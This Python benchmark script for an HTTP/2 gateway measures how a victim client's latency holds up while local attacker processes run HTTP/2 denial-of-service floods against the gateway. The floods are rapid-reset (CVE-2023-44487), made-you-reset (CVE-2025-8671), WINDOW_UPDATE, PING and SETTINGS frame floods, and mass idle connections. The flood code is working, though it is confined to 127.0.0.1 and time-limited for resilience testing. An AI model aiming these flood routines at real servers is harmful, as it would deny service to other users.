"""What an HTTP/2 attacker does to everyone else: another client's latency through the gateway
while each attack runs (``make bench-floods``, or ``python -m bench.floods``).

The gateway (``shoal gateway``, one process on the server core) forwards to the nginx backend,
as in the ``shoal-gateway`` bench row. A victim sends plain HTTP/1.1 GETs at a fixed rate over
one keep-alive connection and records each latency; for each attack in turn, attackers (on the
load generator's core, reconnecting whenever the gateway closes them) run for the same seconds:

- ``rapid-reset``: HEADERS then RST_STREAM, over and over (CVE-2023-44487);
- ``made-you-reset``: HEADERS with END_STREAM then DATA on the closed stream, which makes the
  server reset it (CVE-2025-8671);
- ``window-update``: WINDOW_UPDATE +1 frames without end, from 3 connections;
- ``ping`` and ``settings``: control frames without end;
- ``connections``: one client holding 2,000 idle connections.

It prints, per attack, the victim's p50/p99/max and failures, and how many times the gateway cut
an attacker off. Acceptance (issue #13): the victim's p99 stays under 50 ms through every attack.
Only 127.0.0.1 is targeted, and every attack stops after ``--seconds``.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import os
import statistics
import sys
import tempfile
import time
from collections.abc import Callable, Coroutine, Iterable
from dataclasses import dataclass
from pathlib import Path

from hyperframe.frame import (
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from bench.process import LOADGEN_CPU, SERVER_CPU
from bench.servers import start_backend
from bench.shoal_rows import start_shoal_gateway
from bench.tls import make_self_signed
from bench.tools import ensure_tools
from shoal.mesh.peer_uid import TCP_TABLE

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# A GET / as one HPACK block of literal, never-indexed fields (no encoder state to keep).
GET = b"".join(
    b"\x10" + bytes([len(name)]) + name + bytes([len(value)]) + value
    for name, value in (
        (b":method", b"GET"),
        (b":scheme", b"http"),
        (b":path", b"/"),
        (b":authority", b"bench"),
    )
)
BATCH = 200  # frames per write
VICTIM = "127.0.0.2"  # the victim's address: per-client limits are the attacker's (127.0.0.1)


@dataclass
class Victim:
    """Latencies (seconds) and failures of one client's requests."""

    latencies: list[float]
    failures: int = 0

    def summary(self) -> str:
        """p50 / p99 / max in ms and the failures."""
        if not self.latencies:
            return f"no answer ({self.failures} failed)"
        ordered = sorted(self.latencies)
        p99 = ordered[min(len(ordered) - 1, int(len(ordered) * 0.99))]
        return (
            f"p50 {statistics.median(ordered) * 1000:7.1f} ms   p99 {p99 * 1000:7.1f} ms   "
            f"max {ordered[-1] * 1000:7.1f} ms   {len(ordered)} ok, {self.failures} failed"
        )

    @property
    def p99(self) -> float:
        """The 99th percentile latency, seconds (infinite when nothing was answered)."""
        if not self.latencies:
            return float("inf")
        ordered = sorted(self.latencies)
        return ordered[min(len(ordered) - 1, int(len(ordered) * 0.99))]


async def victim(port: int, seconds: float, rate: float) -> Victim:
    """GET / at ``rate`` per second for ``seconds`` over one keep-alive HTTP/1.1 connection
    (reopened after a failure)."""
    result = Victim([])
    loop = asyncio.get_running_loop()
    deadline = loop.time() + seconds
    streams: tuple[asyncio.StreamReader, asyncio.StreamWriter] | None = None
    request = b"GET / HTTP/1.1\r\nHost: bench\r\n\r\n"
    next_at = loop.time()
    while loop.time() < deadline:
        await asyncio.sleep(max(0.0, next_at - loop.time()))
        next_at += 1 / rate
        started = loop.time()
        try:
            async with asyncio.timeout(5):
                if streams is None:
                    streams = await asyncio.open_connection(
                        "127.0.0.1", port, local_addr=(VICTIM, 0)
                    )
                reader, writer = streams
                writer.write(request)
                head = await reader.readuntil(b"\r\n\r\n")
                length = next(
                    int(line.split(b":", 1)[1])
                    for line in head.split(b"\r\n")
                    if line.lower().startswith(b"content-length:")
                )
                await reader.readexactly(length)
            if not head.startswith(b"HTTP/1.1 200"):
                raise ConnectionError(head.split(b"\r\n", 1)[0])
            result.latencies.append(loop.time() - started)
        except (OSError, TimeoutError, StopIteration, asyncio.IncompleteReadError, ConnectionError):
            result.failures += 1
            if streams is not None:
                streams[1].close()
            streams = None
    if streams is not None:
        streams[1].close()
    return result


def _serialize(frames: Iterable[Frame]) -> bytes:
    return b"".join(f.serialize() for f in frames)


def rapid_reset(first: int) -> list[Frame]:
    """A batch of streams, each opened and at once cancelled."""
    frames: list[Frame] = []
    for sid in range(first, first + 2 * BATCH, 2):
        frames.append(HeadersFrame(sid, data=GET, flags=["END_HEADERS"]))
        frames.append(RstStreamFrame(sid, error_code=8))
    return frames


def made_you_reset(first: int) -> list[Frame]:
    """A batch of complete GETs, each followed by DATA the server must reset the stream for."""
    frames: list[Frame] = []
    for sid in range(first, first + 2 * BATCH, 2):
        frames.append(HeadersFrame(sid, data=GET, flags=["END_HEADERS", "END_STREAM"]))
        frames.append(DataFrame(sid, data=b"x"))
    return frames


def control(make: Callable[[], Frame]) -> Callable[[int], list[Frame]]:
    """A batch of the same control frame."""
    return lambda first: [make() for _ in range(BATCH)]


async def flood(port: int, batch: Callable[[int], list[Frame]], until: float) -> int:
    """Send batches on one connection, reconnecting each time the gateway closes it, until
    ``until`` (loop time); how many connections the gateway closed."""
    loop = asyncio.get_running_loop()
    cut = 0
    while loop.time() < until:
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
        except OSError:
            await asyncio.sleep(0.01)
            continue
        drain = asyncio.ensure_future(_discard(reader))
        try:
            writer.write(PREFACE + SettingsFrame(0).serialize())
            sid = 1
            while loop.time() < until and not drain.done():
                writer.write(_serialize(batch(sid)))
                sid += 2 * BATCH
                if sid > 2**31 - 2 * BATCH:
                    break
                await writer.drain()
                _announce()
                await asyncio.sleep(0)  # let the reader see the gateway's close
        except OSError:
            cut += 1
        else:
            cut += drain.done()
        drain.cancel()
        writer.close()
        with contextlib.suppress(BaseException):
            await drain
    return cut


async def _discard(reader: asyncio.StreamReader) -> None:
    while await reader.read(65536):
        pass


async def hold_connections(port: int, count: int, until: float) -> int:
    """Open ``count`` connections and hold them idle until ``until``; how many the gateway
    refused or closed meanwhile."""
    loop = asyncio.get_running_loop()
    held: list[tuple[asyncio.StreamWriter, asyncio.Future[None]]] = []
    refused = 0
    for _ in range(count):
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
        except OSError:
            refused += 1
            continue
        held.append((writer, asyncio.ensure_future(_discard(reader))))
    _announce()
    await asyncio.sleep(max(0.0, until - loop.time()))  # the attack: hold them that long
    closed = sum(1 for _, ended in held if ended.done())
    for writer, ended in held:
        ended.cancel()
        writer.close()
    return refused + closed


UNDER_WAY = "under way"
_announced = False


def _announce() -> None:
    """Tell the parent, once, that the attack has reached the gateway (its first line)."""
    global _announced
    if not _announced:
        _announced = True
        print(UNDER_WAY, flush=True)


def attacker_sockets(port: int, table: str) -> int:
    """Connections the gateway on ``port`` still holds from 127.0.0.1 (the attacker's
    address; the victim's is 127.0.0.2), in the text of ``/proc/net/tcp``: any state but
    LISTEN and TIME_WAIT."""
    local, remote = f":{port:04X}", "0100007F:"
    count = 0
    for line in table.splitlines()[1:]:
        fields = line.split()
        if len(fields) > 3 and fields[1].endswith(local) and fields[2].startswith(remote):
            count += fields[3] not in ("0A", "06")
    return count


ATTACKS: dict[str, Callable[[int, float], list[Coroutine[None, None, int]]]] = {
    "rapid-reset": lambda port, until: [flood(port, rapid_reset, until)],
    "made-you-reset": lambda port, until: [flood(port, made_you_reset, until)],
    "window-update": lambda port, until: [
        flood(port, control(lambda: WindowUpdateFrame(0, window_increment=1)), until)
        for _ in range(3)
    ],
    "ping": lambda port, until: [
        flood(port, control(lambda: PingFrame(0, opaque_data=b"12345678")), until)
    ],
    "settings": lambda port, until: [flood(port, control(lambda: SettingsFrame(0)), until)],
    "connections": lambda port, until: [hold_connections(port, 2000, until)],
}


async def attack(name: str, port: int, seconds: float) -> int:
    """Run attack ``name`` against ``port`` for ``seconds``; how many connections were cut
    (for ``connections``: refused)."""
    until = asyncio.get_running_loop().time() + seconds
    return sum(await asyncio.gather(*ATTACKS[name](port, until)))


async def measure(port: int, seconds: float, rate: float) -> list[tuple[str, Victim, str]]:
    """The victim alone, then under each attack (run by a child process on the load
    generator's core): (attack, victim, what the attacker saw)."""
    results = [("none", await victim(port, seconds, rate), "")]
    for name in ATTACKS:
        attacker = await asyncio.create_subprocess_exec(
            sys.executable,
            "-m",
            "bench.floods",
            "--attack",
            name,
            "--port",
            str(port),
            "--seconds",
            str(seconds + 1.0),
            stdout=asyncio.subprocess.PIPE,
        )
        os.sched_setaffinity(attacker.pid, {LOADGEN_CPU})
        assert attacker.stdout is not None
        async with asyncio.timeout(30):  # the attack reaches the gateway before the victim starts
            started = (await attacker.stdout.readline()).decode().strip()
        if started != UNDER_WAY:
            raise RuntimeError(f"the {name} attacker did not start: {started!r}")
        measured = await victim(port, seconds, rate)
        out, _ = await attacker.communicate()
        results.append((name, measured, out.decode().strip()))
        await _quiet(port)  # the gateway has let go of every attacking connection
    return results


def _held(port: int) -> int:
    return attacker_sockets(port, TCP_TABLE.read_text())


async def _quiet(port: int, timeout: float = 10.0) -> None:
    """Wait until the gateway holds no connection from the attacker (lingering closes end
    within LINGER); RuntimeError after ``timeout`` seconds."""
    deadline = asyncio.get_running_loop().time() + timeout
    while _held(port):
        if asyncio.get_running_loop().time() > deadline:
            raise RuntimeError(f"the gateway still holds attacking connections after {timeout}s")
        await asyncio.sleep(0.05)


def main(argv: list[str] | None = None) -> int:
    """Start nginx and the gateway, measure, print; exit 1 if a p99 reached 50 ms."""
    parser = argparse.ArgumentParser(prog="python -m bench.floods", description=__doc__)
    parser.add_argument("--seconds", type=float, default=5.0, help="per attack")
    parser.add_argument("--rate", type=float, default=100.0, help="victim requests per second")
    parser.add_argument("--no-install", action="store_true", help="do not apt-get nginx")
    parser.add_argument("--attack", choices=sorted(ATTACKS), help=argparse.SUPPRESS)
    parser.add_argument("--port", type=int, help=argparse.SUPPRESS)
    args = parser.parse_args(argv)
    if args.attack:  # the attacker's own process
        cut = asyncio.run(attack(args.attack, args.port, args.seconds))
        if args.attack == "connections":
            print(f"{cut} of its 2000 connections refused or closed")
        else:
            print(f"cut off {cut} times")
        return 0
    tools = ensure_tools(["nginx"], install=not args.no_install)
    workdir = Path(tempfile.mkdtemp(prefix="shoal-floods-"))
    tls = make_self_signed(workdir)
    backend = start_backend(tools, workdir, tls, LOADGEN_CPU)
    try:
        assert backend.h1_port is not None
        gateway = start_shoal_gateway(backend.h1_port, tls)
        try:
            os.sched_setaffinity(0, {LOADGEN_CPU})
            assert gateway.h1_port is not None
            started = time.monotonic()
            results = asyncio.run(measure(gateway.h1_port, args.seconds, args.rate))
        finally:
            gateway.stop()
    finally:
        backend.stop()
    print(f"gateway on core {SERVER_CPU}; victim: {args.rate:.0f} GET/s over HTTP/1.1 keep-alive")
    worst = 0.0
    for name, measured, attacker in results:
        print(f"{name:15} {measured.summary()}   {attacker}")
        worst = max(worst, measured.p99) if name != "none" else worst
    print(
        f"worst p99 under attack: {worst * 1000:.1f} ms (goal < 50 ms); "
        f"{time.monotonic() - started:.0f} s"
    )
    return 0 if worst < 0.05 else 1


if __name__ == "__main__":
    raise SystemExit(main())
